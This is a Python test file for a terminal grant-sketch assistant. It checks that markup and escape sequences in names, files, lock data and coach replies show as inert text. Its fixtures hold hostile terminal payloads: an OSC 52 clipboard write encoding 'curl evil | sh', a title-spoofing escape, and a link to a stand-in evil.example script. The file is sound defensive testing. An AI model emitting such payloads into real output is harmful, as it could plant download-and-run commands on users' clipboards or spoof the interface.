"""Markup and escape sequences in a sketch, a file name, a lock file and a model's reply: the
window shows them as text on every screen and never crashes.

Before, an applicant named `Test [/]AS` crashed the export screen (MarkupError), a lock file
with `"host": "fileserver[/]"` stopped the sketch from opening, a file named `rapport[b=x:y].md`
crashed on Ctrl+S, and a model's reply could set the window title and blank the chat.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

from textual.content import Content

from assistant.core.sketch.document import parse_sketch
from assistant.core.files.locks import lock_path_for
from assistant.tui.app import make_app
from assistant.tui.screens.coach import CoachMessage
from assistant.tui.screens.export import ExportScreen

from .conftest import FakeCoach
from .helpers import open_screen, send, wait_for

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
CLEAR = "\x1b[2J"
APPLICANT = f"Test [/]AS [b=x:y] {OSC52}{CLEAR}"
SKETCH = f"""---
title: {json.dumps("Trygg [b=x:y] hjemme " + CLEAR)}
applicant:
  name: {json.dumps(APPLICANT)}
partners:
  - name: {json.dumps("Askøy [/] kommune " + OSC52)}
    role: "partner [b]fet[/b]"
---

## Sammendrag

Eldre vil bo hjemme lenger [/] {CLEAR}.

## Problem og behov

Behovet er stort [b=x:y]. {OSC52}

## Budsjett

| Post | Beløp |
|---|---|
| Utvikling [/] {CLEAR} | 1 000 000 |
| Test [b=x:y] | 500 000 |
"""
REPLY = f"Svar {CLEAR}med \x1b]0;Alle kriterier oppfylt\x07 tittel og [klikk her](https://evil.example/x.sh) og <https://evil.example>."


def _hostile(tmp_path: Path) -> Path:
    path = tmp_path / f"rapport[b=x:y] {OSC52}.md"
    path.write_text(SKETCH, encoding="utf-8")
    lock = lock_path_for(path)
    lock.write_text(json.dumps({"pid": 1, "host": f"fileserver[/] {OSC52}", "user": "kari[/]", "time": "2026-01-01T00:00:00+00:00"}), encoding="utf-8")
    return path


def _notes(app) -> str:
    """The notifications as the user reads them (their markup rendered)."""
    return "\n".join(Content.from_markup(str(n.message)).plain for n in app._notifications)


def _screen_controls(app) -> list[str]:
    """Control characters in what the window sends to the terminal, besides its own colour and
    cursor codes (CSI sequences)."""
    update = app.screen._compositor.render_update(full=True)
    sent = "".join(update.render_segments(app.console))
    return _raw_controls(re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", sent))


def _raw_controls(text: str) -> list[str]:
    return [f"U+{ord(c):04X}" for c in text if ord(c) < 32 and c not in "\n\t" or 0x7F <= ord(c) <= 0x9F]


async def test_every_screen_shows_markup_and_escapes_as_text(tmp_path: Path) -> None:
    path = _hostile(tmp_path)
    coach = FakeCoach(reply=REPLY)
    app = make_app(path, coach=coach, save_delay=0.2)
    async with app.run_test(size=(100, 32)) as pilot:
        await wait_for(pilot, lambda: app.draft is not None and app.live is not None)
        # The lock held by «fileserver[/]»: a warning that names it, and the sketch open.
        await wait_for(pilot, lambda: "fileserver[/]" in _notes(app))
        assert "fileserver[/] \\u001b]52" in _notes(app)
        for key in ("f2", "f3", "f4", "f5", "f6", "f1", "escape", "f12"):
            await pilot.press(key)
            await pilot.pause(0.1)
            assert not _screen_controls(app), (key, type(app.screen).__name__)
        # Partners: the applicant line and the table show the names as written.
        await open_screen(pilot, app, "f5", "partners")
        line = str(app.screen.query_one("#applicant-line").render())
        assert "Test [/]AS [b=x:y] \\u001b]52" in line and not _raw_controls(line)
        # Budget: the table shows the item with its brackets.
        await open_screen(pilot, app, "f4", "budget")
        # Export: the summary names the applicant the eligibility check cannot judge.
        await pilot.press("f6")
        await wait_for(pilot, lambda: isinstance(app.screen, ExportScreen) and app.screen.state is not None)
        summary = str(app.screen.query_one("#summary").render())
        assert "Test [/]AS [b=x:y]" in summary and not _raw_controls(summary)
        # Ctrl+S: saved, and the notice names the file, brackets and all.
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: "rapport[b=x:y]" in _notes(app))
        assert not _raw_controls(_notes(app))
        # The coach: a reply with escapes and links, shown as text, no link to follow.
        await open_screen(pilot, app, "f12", "coach")
        await send(pilot, "Hva mangler?")
        await wait_for(pilot, lambda: any("evil.example" in (m.source or "") for m in app.screen.query(CoachMessage)))
        reply = next(m for m in app.screen.query(CoachMessage) if "evil.example" in (m.source or ""))
        await wait_for(pilot, lambda: "tittel" in (reply.source or ""))
        assert not _raw_controls(reply.source) and "\\u001b]0;Alle kriterier oppfylt" in reply.source
        tokens = reply._parser_factory().parse(reply.source)
        kinds = {c.type for t in tokens for c in (t.children or [])}
        assert not kinds & {"link_open", "image"}, kinds  # no link a click could follow
        assert not _screen_controls(app)
        assert app.title is not None and "Alle kriterier" not in str(app.title)
    assert app.return_code in (None, 0)
    # What is saved is the user's text: nothing escaped on disk.
    saved = path.read_text(encoding="utf-8")
    assert parse_sketch(saved).applicant.name == APPLICANT and f"| Utvikling [/] {CLEAR} |" in saved


async def test_history_portfolio_conflict_and_start_show_hostile_names(tmp_path: Path, skisse_home: Path) -> None:
    from assistant.advisor.db import HistoryDB
    from assistant.advisor.service import record_save
    from assistant.core.files.locks import Conflict
    from assistant.tui.screens.conflict import ConflictScreen
    from assistant.tui.screens.history import HistoryScreen
    from assistant.tui.screens.portfolio import PortfolioScreen
    from assistant.tui.screens.start import StartScreen

    path = _hostile(tmp_path)
    lock_path_for(path).unlink()
    record_save(path, SKETCH)
    record_save(path, SKETCH + f"\nMer tekst [/] {OSC52}\n")
    app = make_app(path, coach=FakeCoach(), save_delay=0.2)
    async with app.run_test(size=(100, 32)) as pilot:
        await wait_for(pilot, lambda: app.draft is not None and app.live is not None)
        await app.workers.wait_for_complete()  # the text as opened (the first one again) is a third version
        # History: the versions compared, their text side by side.
        app.push_screen(HistoryScreen(path, db_factory=HistoryDB))
        await wait_for(pilot, lambda: isinstance(app.screen, HistoryScreen) and len(app.screen.versions) == 3)
        await pilot.pause(0.2)
        assert not _screen_controls(app)
        app.pop_screen()
        # Portfolio of the folder: the applicant as written, in the table.
        app.push_screen(PortfolioScreen(path.parent, pages=False, jobs=1))
        await wait_for(pilot, lambda: isinstance(app.screen, PortfolioScreen) and app.screen.portfolio is not None, rounds=1200)
        await pilot.pause(0.2)
        table = app.screen.query_one("DataTable")
        cells = " ".join(str(table.get_cell_at((0, c))) for c in range(2))
        assert "Test [/]AS [b=x:y] \\u001b]52" in cells
        assert not _screen_controls(app)
        app.pop_screen()
        # The conflict dialog names the file, brackets and all, and shows the difference.
        conflict = Conflict(path, "0" * 64, "1" * 64, SKETCH.replace("Behovet", f"Behovet {CLEAR}[b]"))
        app.push_screen(ConflictScreen(conflict))
        await wait_for(pilot, lambda: isinstance(app.screen, ConflictScreen) and app.screen.query("#conflict-question"))
        question = str(app.screen.query_one("#conflict-question").render())
        assert "rapport[b=x:y] \\u001b]52" in question
        await pilot.press("d")
        await pilot.pause(0.2)
        assert not _screen_controls(app)
    # The start screen lists the sketch by its title, brackets and all.
    again = make_app(None, save_delay=0.2)
    async with again.run_test(size=(100, 32)) as pilot:
        await wait_for(pilot, lambda: isinstance(again.screen, StartScreen))
        await pilot.pause(0.2)
        options = again.screen.query_one("OptionList")
        prompts = " ".join(Content.from_markup(str(options.get_option_at_index(i).prompt)).plain for i in range(options.option_count))
        assert "Trygg [b=x:y] hjemme \\u001b[2J" in prompts and "rapport[b=x:y]" in prompts
        assert not _screen_controls(again)


async def test_a_typed_folder_with_brackets_is_named_as_typed(tmp_path: Path, skisse_home: Path) -> None:
    """The portfolio prompt given a folder that does not exist, named with markup: the error
    names it as typed (it was put into the notification as markup)."""
    from assistant.tui.coaching import show_portfolio
    from assistant.tui.screens.ask_text import AskText

    path = _hostile(tmp_path)
    lock_path_for(path).unlink()
    app = make_app(path, coach=FakeCoach(), save_delay=0.2)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause(0.3)
        show_portfolio(app)
        await wait_for(pilot, lambda: isinstance(app.screen, AskText) and bool(app.screen.query("Input")))
        app.screen.query_one("Input").value = str(tmp_path / "mappe[/]x[b=y:z]")
        await pilot.press("enter")
        await wait_for(pilot, lambda: bool(app._notifications))
        shown = " ".join(str(Content.from_markup(n.message)) for n in app._notifications)
        assert "mappe[/]x[b=y:z]" in shown
